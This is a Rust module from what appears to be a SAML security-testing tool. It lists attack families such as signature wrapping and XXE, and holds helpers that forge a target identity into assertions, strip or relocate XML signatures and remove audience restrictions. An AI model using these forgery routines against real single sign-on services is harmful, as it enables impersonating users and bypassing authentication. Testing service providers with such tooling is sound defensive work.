//! The catalogue's families, one file each, and the helpers their edits share.

use saml_protocol::{ASSERTION_NS, DSIG_NS, PROTOCOL_NS};
pub mod canon;
pub mod dos;
pub mod dsig;
pub mod enc;
pub mod info;
pub mod inject;
pub mod parse;
pub mod sig;
pub mod slo;
pub mod token;
pub mod xsw;
pub mod xxe;

use crate::bytes::{self, signature_of, Doc, Node};
use crate::forge::{Forged, Skip};
use crate::identity::{self, Swap};

/// Spec references used by several families.
pub const CORE_SIG: &str = "SAML Core §5.4.2 (saml-core-2.0-os)";
/// Web SSO profile processing rules.
pub const PROFILES: &str = "SAML Profiles §4.1.4.3 (saml-profiles-2.0-os)";
/// The XSW paper.
pub const USENIX12: &str =
    "Somorovsky et al., On Breaking SAML: Be Whoever You Want to Be (USENIX Security 2012)";

/// The pieces of a seed most edits need.
pub struct Parts<'d, 'a> {
    /// The parsed seed.
    pub doc: &'d Doc<'a>,
    /// The root (samlp:Response).
    pub root: Node<'d, 'a>,
    /// The first Assertion.
    pub assertion: Node<'d, 'a>,
    /// The Assertion's enveloped Signature.
    pub assertion_sig: Option<Node<'d, 'a>>,
    /// The Response's enveloped Signature.
    pub response_sig: Option<Node<'d, 'a>>,
}

impl<'d, 'a> Parts<'d, 'a> {
    /// Finds the parts of `doc`.
    pub fn of(doc: &'d Doc<'a>) -> Result<Parts<'d, 'a>, Skip> {
        let root = doc.root();
        if !root.has_tag_name((PROTOCOL_NS, "Response")) {
            return Err(Skip::NotApplicable(
                "the seed is not a samlp:Response".into(),
            ));
        }
        let assertion = doc.assertion()?;
        Ok(Parts {
            doc,
            root,
            assertion,
            assertion_sig: signature_of(assertion),
            response_sig: signature_of(root),
        })
    }

    /// The Assertion's signature, or not-applicable.
    pub fn need_assertion_sig(&self) -> Result<Node<'d, 'a>, Skip> {
        self.assertion_sig.ok_or_else(|| {
            Skip::NotApplicable("needs a signed Assertion; this IdP signs only the Response".into())
        })
    }

    /// The Response's signature, or not-applicable.
    pub fn need_response_sig(&self) -> Result<Node<'d, 'a>, Skip> {
        self.response_sig.ok_or_else(|| {
            Skip::NotApplicable(
                "needs a signed Response; this IdP signs only the Assertion (Entra's default)"
                    .into(),
            )
        })
    }

    /// The Assertion's ID.
    pub fn assertion_id(&self) -> &'d str {
        self.assertion.attribute("ID").unwrap_or_default()
    }

    /// The original Assertion without its signature.
    pub fn assertion_unsigned(&self) -> String {
        self.doc.outer_without(self.assertion, self.assertion_sig)
    }

    /// The original Response without its own signature.
    pub fn response_unsigned(&self) -> String {
        self.doc.outer_without(self.root, self.response_sig)
    }

    /// A forged copy of the Assertion (target identity, its signature removed) whose `ID`
    /// attribute is replaced by `id_attr` (the whole `name="value"` text) when given. Built by
    /// editing the whole document, so every namespace stays bound.
    pub fn forged_assertion(&self, id_attr: Option<String>) -> Result<(String, Swap), Skip> {
        self.forged_assertion_dropping(id_attr, Vec::new())
    }

    /// As [`Parts::forged_assertion`], the Assertion's `dropped` children removed too.
    fn forged_assertion_dropping(
        &self,
        id_attr: Option<String>,
        dropped: Vec<Node<'d, 'a>>,
    ) -> Result<(String, Swap), Skip> {
        let a = self.assertion.range();
        let (mut edits, swap) =
            identity::rewrite_edits(self.doc, a.clone(), &identity::forger(self.doc));
        if swap.forged.is_empty() {
            return Err(Skip::NotApplicable(
                "the Assertion carries no identity value (NameID or identity claim) to forge"
                    .into(),
            ));
        }
        if let Some(s) = self.assertion_sig {
            edits.push((s.range(), String::new()));
        }
        edits.extend(dropped.into_iter().map(|n| (n.range(), String::new())));
        if let Some(attr) = id_attr {
            let id = self
                .assertion
                .attributes()
                .find(|at| at.name() == "ID" && at.namespace().is_none())
                .ok_or_else(|| Skip::NotApplicable("the Assertion has no ID".into()))?;
            edits.push((id.range(), attr));
        }
        Ok((cut(self.doc.src, a, edits), swap))
    }

    /// As [`Parts::forged_assertion`], with a new `ID` value.
    pub fn forged_assertion_with_id(&self, id: &str) -> Result<(String, Swap), Skip> {
        self.forged_assertion(Some(format!("ID=\"{id}\"")))
    }

    /// As [`Parts::forged_assertion_with_id`], without the Assertion's AudienceRestrictions:
    /// a reader that takes each field over the whole document then finds one Audience, the
    /// signed original's.
    pub fn forged_assertion_without_audience(&self, id: &str) -> Result<(String, Swap), Skip> {
        let restrictions: Vec<_> = bytes::child(self.assertion, ASSERTION_NS, "Conditions")
            .into_iter()
            .flat_map(|c| c.children())
            .filter(|n| n.has_tag_name((ASSERTION_NS, "AudienceRestriction")))
            .collect();
        if restrictions.is_empty() {
            return Err(Skip::NotApplicable(
                "the Assertion has no AudienceRestriction to leave out; xsw/3 covers this seed"
                    .into(),
            ));
        }
        self.forged_assertion_dropping(Some(format!("ID=\"{id}\"")), restrictions)
    }

    /// Applies assertion-level `edits` and, as an attacker would, drops the Response's own
    /// signature (which the edits break): a seed signed on both levels must not be refused
    /// for a broken Response digest.
    pub fn splice_unsigned_response(&self, mut edits: bytes::Edits) -> String {
        if let Some(rs) = self.response_sig {
            edits.push((rs.range(), String::new()));
        }
        bytes::splice(self.doc.src, edits)
    }

    /// The Assertion's Signature `sig` as raw text that can stand elsewhere in the document:
    /// refused when its namespace is declared on an ancestor (moved, it would be unbound).
    pub fn movable_signature(&self, sig: Node<'d, 'a>) -> Result<&'d str, Skip> {
        if !bytes::declares_own_namespace(self.doc.src, sig) {
            return Err(Skip::NotApplicable(
                "the Signature's namespace is declared on an ancestor; moved, it would be unbound"
                    .into(),
            ));
        }
        Ok(self.doc.outer(sig))
    }

    /// Where a child goes right after the Response's Issuer (and its Signature, if any).
    pub fn after_response_header(&self) -> usize {
        self.response_sig
            .or_else(|| bytes::child(self.root, ASSERTION_NS, "Issuer"))
            .map_or_else(
                || bytes::after_start_tag(self.doc.src, self.root),
                |n| n.range().end,
            )
    }
}

/// A new ID derived from `id`, so it is unique in the document.
pub fn evil_id(id: &str) -> String {
    format!("{id}-evil")
}

/// Applies `edits` (all inside `range`) to `src` and returns what `range` became.
pub fn cut(src: &str, range: std::ops::Range<usize>, edits: bytes::Edits) -> String {
    let delta: isize = edits
        .iter()
        .map(|(r, t)| t.len() as isize - r.len() as isize)
        .sum();
    let out = bytes::splice(src, edits);
    let end = (range.end as isize + delta).max(range.start as isize) as usize;
    out.get(range.start..end).unwrap_or_default().to_owned()
}

/// Forges the target identity into the whole document.
pub fn forge_document(doc: &Doc) -> (String, Swap) {
    identity::forge(doc, 0..doc.src.len())
}

/// Removes every `ds:Signature` from a document.
pub fn strip_signatures(xml: &str) -> Result<String, Skip> {
    let doc = Doc::parse_built(xml)?;
    let cuts = doc
        .tree
        .descendants()
        .filter(|n| n.has_tag_name((DSIG_NS, "Signature")))
        .filter(|n| {
            !n.ancestors()
                .skip(1)
                .any(|a| a.has_tag_name((DSIG_NS, "Signature")))
        })
        .map(|n| (n.range(), String::new()))
        .collect();
    Ok(bytes::splice(xml, cuts))
}

/// Result helper: a forged document.
pub fn forged(xml: String, swap: Swap) -> Result<Forged, Skip> {
    Ok(Forged {
        xml,
        swap,
        served: Vec::new(),
        local_file: None,
    })
}
